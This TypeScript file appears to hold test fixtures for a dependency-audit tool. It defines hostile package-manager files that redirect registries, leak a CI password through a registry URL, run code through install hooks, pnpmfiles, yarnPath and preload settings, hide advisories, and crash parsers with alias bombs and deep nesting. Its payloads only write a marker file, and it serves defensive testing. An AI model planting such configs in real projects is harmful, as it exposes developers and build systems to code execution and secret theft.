import type { HostileRow, Scene } from './row.ts'
import { lockOf, tree } from './stage.ts'

/** JavaScript that shows that it ran. */
export const js = ({ marker }: Scene) => `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'ran')\n`
export const shell = ({ marker }: Scene) => `#!/bin/sh\necho ran > '${marker}'\n`

const manifest = (more: object) => ({ 'package.json': JSON.stringify({ ...JSON.parse(tree['package.json']), ...more }) })
const ghsa = 'GHSA-xvch-5gv4-984h'

/** Files of npm, pnpm, yarn and bun. */
export const packageManagerRows: readonly HostileRow[] = [
  {
    file: '.npmrc',
    attack: 'names another registry, which answers that all is well',
    files: ({ elsewhere }) => ({ '.npmrc': `registry=${elsewhere}/\naudit-registry=${elsewhere}/\n` }),
  },
  {
    file: '.npmrc',
    attack: 'sends a variable of the job in an address',
    files: ({ elsewhere }) => ({
      '.npmrc': `registry=${elsewhere}/$\{DEPLOY_PASSWORD}/\n//registry.npmjs.org/:_authToken=$\{NPM_TOKEN}\n`,
    }),
  },
  {
    file: '.npmrc',
    attack: 'gives node options, a shell and a proxy',
    files: (scene) => ({
      '.npmrc': `node-options=--require ./evil.cjs\nscript-shell=./evil.sh\nproxy=${scene.elsewhere}\nhttps-proxy=${scene.elsewhere}\n`,
      'evil.cjs': js(scene),
      'evil.sh': shell(scene),
    }),
  },
  {
    file: '.npmrc',
    attack: 'leaves packages for development out (omit=dev)',
    files: () => ({
      '.npmrc': 'omit=dev\naudit=false\naudit-level=none\n',
      'package-lock.json': lockOf('minimist', '0.0.8', { dev: true }),
    }),
  },
  {
    file: 'app/.npmrc',
    attack: 'names another registry beside the second lock file',
    files: ({ elsewhere }) => ({ 'app/.npmrc': `registry=${elsewhere}/\n` }),
  },
  {
    file: '.pnpmfile.cjs',
    attack: 'runs when pnpm reads the lock file',
    files: (scene) => ({ '.pnpmfile.cjs': js(scene), 'app/.pnpmfile.cjs': js(scene), 'app/.pnpmfile.mjs': js(scene) }),
  },
  {
    file: 'pnpm-workspace.yaml',
    attack: 'hides the advisory (auditConfig.ignoreGhsas)',
    files: () => ({
      'app/pnpm-workspace.yaml': `auditConfig:\n  ignoreGhsas: [${ghsa}]\n  ignoreCves: [CVE-2021-44906]\n`,
      'pnpm-workspace.yaml': `auditConfig: { ignoreGhsas: [${ghsa}] }\n`,
    }),
  },
  {
    file: 'pnpm-workspace.yaml',
    attack: 'brings code (pnpmfile, configDependencies)',
    files: (scene) => ({
      'app/pnpm-workspace.yaml': 'pnpmfile: ./evil.cjs\nconfigDependencies: { evil: 1.0.0 }\n',
      'app/evil.cjs': js(scene),
    }),
  },
  {
    file: 'package.json',
    attack: 'hides the advisory (pnpm.auditConfig)',
    files: () => manifest({ pnpm: { auditConfig: { ignoreGhsas: [ghsa], ignoreCves: ['CVE-2021-44906'] } } }),
  },
  {
    file: 'package.json',
    attack: 'overrides the version in words alone',
    files: () =>
      manifest({ overrides: { minimist: '9.9.9' }, resolutions: { minimist: '9.9.9' }, pnpm: { overrides: { minimist: '9.9.9' } } }),
  },
  {
    file: 'package.json',
    attack: 'has scripts for every step of an installation',
    files: (scene) => ({
      ...manifest({
        scripts: { preinstall: 'node evil.cjs', install: 'node evil.cjs', postinstall: 'node evil.cjs', prepare: 'node evil.cjs' },
      }),
      'evil.cjs': js(scene),
    }),
  },
  {
    file: 'package.json',
    attack: 'chooses its package manager (packageManager, devEngines)',
    files: ({ elsewhere }) =>
      manifest({ packageManager: `pnpm@${elsewhere}/evil.tgz`, devEngines: { packageManager: { name: 'evil', onFail: 'download' } } }),
  },
  {
    file: 'package.json',
    attack: 'turns itself into a workspace that the lock file is not of',
    files: () => manifest({ workspaces: ['app', 'none/*'] }),
  },
  {
    file: '.yarnrc.yml',
    attack: 'names its own yarn (yarnPath)',
    files: (scene) => ({
      '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn.cjs\n',
      '.yarn/releases/yarn.cjs': js(scene),
      'yarn.lock': '# yarn lockfile v1\n',
    }),
  },
  {
    file: '.yarnrc.yml',
    attack: 'loads plugins',
    files: (scene) => ({ '.yarnrc.yml': 'plugins: [.yarn/plugins/evil.cjs]\n', '.yarn/plugins/evil.cjs': js(scene) }),
  },
  {
    file: '.yarnrc.yml',
    attack: 'names another registry, and what the audit leaves out',
    files: ({ elsewhere }) => ({
      '.yarnrc.yml': `npmRegistryServer: ${elsewhere}\nnpmAuditRegistry: ${elsewhere}\nnpmAuditIgnoreAdvisories: ["1097678"]\nnpmAuditExcludePackages: [minimist]\n`,
    }),
  },
  {
    file: '.yarnrc',
    attack: 'names its own yarn 1 and a registry',
    files: (scene) => ({ '.yarnrc': `yarn-path "./evil.cjs"\nregistry "${scene.elsewhere}"\n`, 'evil.cjs': js(scene) }),
  },
  {
    file: '.pnp.cjs',
    attack: 'is loaded by whatever resolves a module',
    files: (scene) => ({ '.pnp.cjs': js(scene), '.pnp.loader.mjs': js(scene) }),
  },
  {
    file: 'bunfig.toml',
    attack: 'loads code first, and names another registry',
    files: (scene) => ({ 'bunfig.toml': `preload = ["./evil.cjs"]\n[install]\nregistry = "${scene.elsewhere}"\n`, 'evil.cjs': js(scene) }),
  },
  {
    file: 'npm-shrinkwrap.json',
    attack: 'speaks for the lock file beside it',
    files: () => ({ 'npm-shrinkwrap.json': lockOf('left-pad', '1.3.0') }),
  },
  {
    file: 'package-lock.json',
    attack: 'says from where each package comes',
    files: ({ elsewhere }) => ({ 'package-lock.json': lockOf('minimist', '0.0.8', { resolved: `${elsewhere}/minimist.tgz` }) }),
  },
  {
    file: 'package-lock.json',
    attack: 'is nested a hundred thousand deep',
    files: () => ({ 'deep/package-lock.json': `{"lockfileVersion":3,"packages":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}` }),
  },
  {
    file: 'package-lock.json',
    attack: 'names packages like the members of an object',
    files: () => ({
      'odd/package-lock.json':
        '{"lockfileVersion":3,"packages":{"node_modules/__proto__":{"version":"1.0.0"},"node_modules/constructor":{"version":"1.0.0"},"__proto__":{"version":"2.0.0"}}}',
    }),
  },
  {
    file: 'pnpm-lock.yaml',
    attack: 'is a bomb of aliases',
    files: () => ({ 'bomb/pnpm-lock.yaml': `${bomb("lockfileVersion: '9.0'\n")}packages: *l11\n` }),
  },
  {
    file: 'pnpm-lock.yaml',
    attack: 'is not YAML, and would make the reader give up',
    files: () => ({ 'broken/pnpm-lock.yaml': '\t{[}]: *nowhere\n' }),
  },
  {
    file: 'yarn.lock',
    attack: 'is a bomb of aliases',
    files: () => ({ 'bomb/yarn.lock': `${bomb('__metadata:\n  version: 8\n')}entries: *l11\n` }),
  },
  {
    file: 'pnpm-lock.yaml',
    attack: 'is a bomb of packages in packages',
    files: () => ({ 'bombs/pnpm-lock.yaml': `lockfileVersion: '9.0'\nx:\n${bomb('', '  ', 'map')}packages: *l11\n` }),
  },
  {
    file: 'pnpm-lock.yaml',
    attack: 'is nested a hundred thousand deep',
    files: () => ({ 'deep/pnpm-lock.yaml': `lockfileVersion: '9.0'\npackages: ${'{a: '.repeat(100_000)}1${'}'.repeat(100_000)}\n` }),
  },
  {
    file: 'pnpm-lock.yaml',
    attack: 'has more than a lock file has',
    files: () => ({
      'huge/pnpm-lock.yaml': `lockfileVersion: '9.0'\npackages:\n${'  a@1.0.0: {resolution: {integrity: x}}\n'.repeat(500_000)}`,
    }),
  },
  {
    file: 'pnpm-lock.yaml',
    attack: 'is of a hundred thousand documents',
    files: () => ({ 'many/pnpm-lock.yaml': "---\nlockfileVersion: '9.0'\npackages: {}\n".repeat(100_000) }),
  },
  {
    file: 'yarn.lock',
    attack: 'is nested a hundred thousand deep',
    files: () => ({ 'deep/yarn.lock': `__metadata:\n  version: 8\nx: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n` }),
  },
  {
    file: 'yarn.lock',
    attack: 'has more than a lock file has',
    files: () => ({ 'huge/yarn.lock': `# yarn lockfile v1\n\n${'a@1.0.0:\n  version "1.0.0"\n'.repeat(700_000)}` }),
  },
  {
    file: 'yarn.lock',
    attack: 'has one name of five million characters, and two thousand versions of it',
    files: () => ({ 'long/yarn.lock': `# yarn lockfile v1\n\n${'a,'.repeat(2_500_000)}a@1:\n${'  version "1.0.0"\n'.repeat(2_000)}` }),
  },
  {
    file: 'bun.lock',
    attack: 'is a bomb of aliases, and nested deep',
    files: () => ({
      'bomb/bun.lock': `lockfileVersion: 1\nx:\n${bomb('', '  ', 'map')}packages: *l11\n`,
      'deep/bun.lock': `{"lockfileVersion": 1, "packages": ${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`,
    }),
  },
  {
    file: 'Cargo.toml, main.tf',
    attack: 'are a million empty lines',
    files: () => ({ 'lines/Cargo.toml': '\n'.repeat(1_000_000), 'lines/main.tf': '\n'.repeat(1_000_000) }),
  },
]

/** Twelve levels, each nine times the one before: `l11` has 282 thousand million leaves. */
export function bomb(head: string, indent = '', kind: 'list' | 'map' = 'list'): string {
  const levels = Array.from({ length: 12 }, (_, level) => {
    const items = Array.from(
      { length: 9 },
      (_item, index) => `${kind === 'map' ? `k${index}: ` : ''}${level === 0 ? 'x' : `*l${level - 1}`}`,
    )
    return `${indent}l${level}: &l${level} ${kind === 'map' ? `{ ${items.join(', ')} }` : `[${items.join(', ')}]`}\n`
  })
  return `${head}${levels.join('')}`
}
